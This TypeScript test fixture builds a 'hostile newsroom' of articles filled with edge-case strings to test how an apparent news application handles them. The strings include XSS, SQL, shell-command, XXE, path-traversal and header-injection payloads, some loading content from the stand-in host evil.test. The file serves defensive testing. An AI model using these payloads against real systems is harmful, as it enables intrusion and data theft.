import type { ArticleInput } from '../../src/content/input.ts';
import type { SourceInput, TopicInput } from '../../src/content/types.ts';

/** Text that breaks careless software, grouped by how it does so. Characters that editors hide are escaped. */
const STRINGS: Record<string, string[]> = {
  words: [
    'undefined',
    'null',
    'NaN',
    'true',
    'None',
    'nil',
    '(null)',
    '[object Object]',
    'constructor',
    '__proto__',
    'hasOwnProperty',
  ],
  numbers: ['0', '-1', '1e309', '0x7fffffff', '9007199254740993', '1/0', '٣٫١٤', '¼½¾', '1,000.00', '-.', 'Infinity'],
  punctuation: [
    '.',
    '-',
    '#',
    '`',
    '~!@#$%^&*()_+-={}|[]\\:;<>?,./',
    '"',
    "'",
    '\'"',
    '"""',
    "''''",
    '\\',
    '\\\\"',
    '%',
    '%%%',
    '?',
    '/',
    '|',
  ],
  entities: [
    '&',
    '&&',
    '&amp;',
    '&amp;amp;',
    '&lt;b&gt;',
    '&apos;',
    '&quot;',
    '&#39;',
    '&#0;',
    '&#x1F600;',
    '&nbsp;x',
    '&notanentity;',
    '&copy',
    'AT&T; D&O &c.',
    '&#xD800;',
  ],
  markup: [
    '<b>bold</b>',
    '</title></head>',
    '</a></h2></article>',
    '</style><style>*{display:none}',
    '</script><script>hacked()</script>',
    '<!-- open',
    '-->',
    '<![CDATA[ x ]]>',
    ']]>',
    ']]]]><![CDATA[>',
    '<?xml version="1.0"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '</item></channel></rss>',
    '</textarea></noscript></template>',
    '<plaintext>',
    '<base href="https://evil.test/">',
    '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  ],
  script: [
    '<script>hacked()</script>',
    '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
    '<img src=x onerror=hacked()>',
    '<img src="x" onerror="hacked()"/>',
    '"><img src=x onerror=hacked()>',
    "'><svg onload=hacked()>",
    '" onfocus=hacked() autofocus x="',
    "' onmouseover='hacked()",
    '` onload=hacked() `',
    '<svg><script>hacked()</script></svg>',
    '<svg/onload=hacked()//',
    '<iframe src="javascript:parent.hacked()"></iframe>',
    '<iframe srcdoc="<script>parent.hacked()</script>">',
    '<object data="data:text/html,<script>hacked()</script>">',
    '<a href="javascript:hacked()">x</a>',
    '<a href="jav&#x09;ascript:hacked()">x</a>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>',
    '<details open ontoggle=hacked()>',
    '<style>@import url(//evil.test/x.css)</style>',
    '<link rel=stylesheet href=//evil.test/x.css>',
    '<form action=//evil.test><button formaction=javascript:hacked()>x',
    '<<script>hacked();//<</script>',
    '<scr<script>ipt>hacked()</scr</script>ipt>',
    '\u003cscript\u003ehacked()\u003c/script\u003e',
    '＜script＞hacked()＜/script＞',
    'javascript:hacked()//',
    '{{constructor.constructor("hacked()")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it must stay what it is
    '${hacked()}',
    '<%= hacked() %>',
    '#{hacked()}',
  ],
  injection: [
    '1;DROP TABLE articles',
    "1'; DROP TABLE articles-- 1",
    "' OR 1=1 -- 1",
    '" OR ""="',
    'a" NEAR "b',
    'title: * OR facets:c1',
    '$(touch /tmp/hacked)',
    '`touch /tmp/hacked`',
    '../../../../etc/passwd%00',
    '%2e%2e%2f',
    '%s%s%n%x',
    '() { :; }; echo hacked',
    '=HYPERLINK("https://evil.test")',
    '@SUM(1+1)*cmd|x',
    'a\r\nSet-Cookie: hacked=1',
    '{"$gt":""}',
    '%0d%0aLocation:%20https://evil.test',
  ],
  control: [
    'a\u0000b',
    'bell\u0007 back\bspace',
    '\u0001\u0002\u0003x\u001e\u001f',
    'del\u007f c1\u0085\u009f',
    'tab\there',
    'line\nbreak\r\nmore',
    '\u001b[31mred\u001b[0m',
    'form\u000cfeed vertical\u000btab',
    'nonchars \ufffe\uffff.',
    'line\u2028separator\u2029paragraph',
  ],
  surrogates: [
    'lone high \ud800 here',
    'lone low \udc00 here',
    'reversed \udc00\ud800',
    'at the end \ud83d',
    '\udfff',
    'real \u{1f600} pair',
    'beyond \u{10fffd}\u{1fffe}',
  ],
  invisible: [
    'a\u200bb\u200cc\u200dd',
    '\ufeffwith mark',
    'soft\u00adhyphen',
    '\u2060\u180e x',
    'tag \u{e0041}\u{e007f}',
    'nb\u00a0space \u3000wide',
    'variation \ufe0f\ufe0e',
  ],
  direction: [
    '\u202eabc reversed',
    '\u2066isolated',
    '\u200f\u200e marks',
    'هذا عنوان باللغة العربية',
    'כותרת בעברית עם English בפנים',
    '\u202a\u202b\u202c\u202d',
    '״ציטוט״ (2026)',
  ],
  scripts: [
    '田中さんにあげて下さい',
    '部落格',
    '사회과학원',
    'ไทยไม่เว้นวรรค',
    'हिन्दी संयुक्ताक्षर',
    'Ελληνικά',
    'Ёлка',
    'ﬁ ligature',
    'İstanbul ıI',
    'ß SS ẞ',
    'Ω≈ç√∫˜µ≤≥÷',
    '⁰⁴⁵₀₁₂',
  ],
  combining: ['Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮', 'e\u0301 é', '\u0301leading', `x${'\u0489'.repeat(50)}`],
  emoji: [
    '👩‍👩‍👧‍👦 family',
    '🇬🇧🇫🇷🇬',
    '👍🏿',
    '❤️‍🔥',
    '1️⃣',
    '(ノಥ益ಥ）ノ ┻━┻',
    '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
  ],
  long: [
    'x'.repeat(10_000),
    `${'word '.repeat(1999)}word`,
    '<'.repeat(3000),
    '\u{1f600}'.repeat(2000),
    `https://${'a'.repeat(500)}.test/`,
  ],
};

export const NASTY: readonly string[] = Object.values(STRINGS).flat();

export interface Newsroom {
  topics: TopicInput[];
  sources: SourceInput[];
  articles: (ArticleInput & { id: number })[];
}

/** Returns the text as the newsroom stores it: without characters that XML forbids, with white space collapsed. */
export const kept = (text: string): string =>
  Array.from(text.toWellFormed(), (character) =>
    /[\p{Cc}\ufffe\uffff]/u.test(character) && !/\s/.test(character) ? '' : character,
  )
    .join('')
    .replace(/\s+/g, ' ')
    .trim();

/** Every article of a hostile newsroom has this topic and a topic of its own. */
export const HOSTILE_TOPIC = 5000;
const FIRST_TOPIC = 5001;

/**
 * Newsroom in which each of `strings` is in every text field, newest article first, ids from 1. `now` is in epoch
 * seconds.
 */
export function hostileNewsroom(strings: readonly string[], now: number): Newsroom {
  const usable = strings.filter((text) => kept(text) !== '');
  return {
    topics: [
      { id: HOSTILE_TOPIC, name: 'Hostile', slug: 'hostile', description: '', category: 2 },
      ...usable.map((text, i) => ({
        id: FIRST_TOPIC + i,
        name: text.slice(0, 190),
        slug: `t-${i}`,
        description: text.slice(0, 1900),
        category: 2 as const,
      })),
    ],
    sources: usable.map((text, i) => ({ domain: `s${i}.hostile.test`, name: text.slice(0, 190) })),
    articles: usable.map((text, i) => ({
      id: i + 1,
      url: `https://s${i}.hostile.test/a/${text.slice(0, 100).replace(/[?#\\]/g, '')}?q=${text.slice(0, 100).replaceAll('#', '')}`,
      title: text,
      introduction: text,
      publishedAt: new Date((now - i * 60) * 1000).toISOString(),
      contentType: 'article',
      topics: [FIRST_TOPIC + i, HOSTILE_TOPIC],
      companies: [],
      countries: [],
      geoGroups: [],
      client: text.slice(0, 190),
      image: {
        url: `https://s${i}.hostile.test/i.png?q=${text.slice(0, 100)}`,
        width: 1200,
        height: 675,
        alt: text.slice(0, 900),
      },
    })),
  };
}
